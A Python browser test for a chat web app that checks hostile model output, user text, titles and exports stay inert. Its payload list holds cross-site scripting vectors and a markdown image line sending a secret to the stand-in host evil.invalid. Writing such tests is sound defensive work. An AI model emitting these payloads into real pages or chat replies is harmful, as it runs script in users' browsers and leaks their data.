"""Hostile model output and user text stay inert in a real browser: nothing runs (no dialog),
nothing is fetched from the payload's host, on the chat page (live and reloaded) and in the
exports."""

from __future__ import annotations

import pytest

from conversations.models import Conversation
from conversations.simulator import Scenario

pytestmark = pytest.mark.timeout(90)

EVIL = "evil.invalid"
PAYLOAD = "\n\n".join(
    [
        "<script>alert('script')</script>",
        "<img src=https://evil.invalid/img.png onerror=alert('img')>",
        "[a link](javascript:alert('js-link')) and <a href=\"javascript:alert('raw-a')\">raw</a>",
        "<svg onload=alert('svg')><a xlink:href=\"javascript:alert('svg-a')\">s</a>"
        '<image href="https://evil.invalid/svg.png"/></svg>',
        "<math><mtext><img src=https://evil.invalid/m.png onerror=alert('mathml')></mtext>"
        "<maction actiontype=statusline href=javascript:alert('maction')>x</maction></math>",
        "Formula $\\href{javascript:alert('href')}{x}$ and $$\\style{background:url(https://evil.invalid/s.png)}{y}$$",
        "![exfiltrate](https://evil.invalid/steal?q=secret)",
        "<iframe src=https://evil.invalid/frame></iframe><object data=https://evil.invalid/o>",
        "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgnZGF0YScpPC9zY3JpcHQ+)",
        "\"><img src=x onerror=alert('attr')><style>body{background:url(https://evil.invalid/c)}</style>",
        "```html\n<script>alert('code')</script>\n```",
    ]
)


def assert_inert(page, watch):
    page.wait_for_timeout(500)  # let any (wrongly) triggered load or handler happen
    assert watch.dialogs == []
    assert [u for u in watch.foreign_requests if EVIL in u] == []
    assert watch.foreign_requests == []
    thread = page.locator("#thread")
    for selector in (
        "script",
        "iframe",
        "object",
        "img",
        "style",
        "image",
        "[onerror]",
        "[onload]",
        "a[href^='javascript']",
        "a[href^='data']",
        "[style]",
    ):
        assert thread.locator(selector).count() == 0, selector
    assert page.locator("#conv-list script, #conv-list img").count() == 0


def test_hostile_model_output_and_user_text_stay_inert(signed_in, live_server_url, simulator):
    simulator.scenario = Scenario(reasoning_text=PAYLOAD, answer_text=PAYLOAD, token_rate=300)
    page, user, watch = signed_in()
    page.goto(live_server_url + "/")
    page.wait_for_selector("#conn[data-state=open]")
    page.wait_for_function("() => document.querySelector('#model-picker').options.length > 1")
    page.fill("#composer-input", PAYLOAD)
    page.keyboard.press("Enter")
    page.wait_for_selector(".msg-assistant .answer-stable > *, .msg-assistant .answer-tail > *")
    assert_inert(page, watch)  # mid-stream: deltas and tails
    page.wait_for_selector(".msg-assistant[data-status=complete]", timeout=30_000)
    assert_inert(page, watch)
    # The text is there, as text.
    assert "<script>alert('script')</script>" in page.locator(".msg-user .user-text").inner_text()
    assert "alert('script')" in page.locator(".msg-assistant .thinking-text").text_content()
    # The model's image is a link the user may follow, never fetched by itself (in the answer
    # and in the reasoning, both rendered).
    for part in (".answer", ".thinking-text"):
        image_link = page.locator(f".msg-assistant {part} a.md-image-link")
        assert image_link.count() == 1
        assert image_link.get_attribute("href") == "https://evil.invalid/steal?q=secret"

    # Reloaded: the server's rendering of the stored thread.
    page.reload()
    page.wait_for_selector(".msg-assistant[data-status=complete]")
    page.locator(".msg-assistant .thinking-summary").click()
    assert_inert(page, watch)

    # A hostile title (typed by the user) in the sidebar and the header.
    conversation = Conversation.objects.get(owner=user)
    conversation.title = "<img src=https://evil.invalid/t.png onerror=alert('title')>"
    conversation.save()
    page.reload()
    page.wait_for_selector("#conn[data-state=open]")
    assert "onerror" in page.locator("#conv-title").inner_text()
    assert_inert(page, watch)

    # Exports are downloads of plain text, never a page that could run anything.
    for name in ("export.md", "export.json"):
        url = f"{live_server_url}/c/{conversation.uuid}/{name}"
        response = page.request.get(url)
        assert response.status == 200
        assert response.headers["content-type"].split(";")[0] in {
            "text/markdown", "application/json",
        }  # fmt: skip
        assert response.headers["content-disposition"].startswith("attachment")
        assert response.headers["x-content-type-options"] == "nosniff"
        assert "alert('script')" in response.text()
        with page.expect_download() as download:
            page.evaluate("url => { window.location.href = url; }", url)
        assert download.value.suggested_filename.endswith(name.split(".")[1])
    assert watch.dialogs == [] and watch.foreign_requests == []
